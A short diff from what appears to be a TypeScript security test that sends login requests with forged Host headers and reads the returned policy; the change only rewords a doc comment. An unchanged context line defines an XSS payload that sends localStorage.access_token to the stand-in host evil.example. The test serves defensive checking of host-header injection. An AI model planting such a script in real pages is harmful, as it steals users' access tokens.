@@ -40,7 +40,7 @@ const FORGED_HOSTS = [
 ]
 const SCRIPT = '<script>fetch("//evil.example/"+localStorage.access_token)</script>'
 
-/** The policy that a request with this host is answered with; undefined where it is refused before. */
+/** The policy in the response to a request with this host; undefined if it is rejected before. */
 const policyFor = (url: string, host: string): Promise<string | undefined> =>
   new Promise((resolve, reject) => {
     request(`${url}/login`, { headers: { host }, setHost: false }, (response) => {
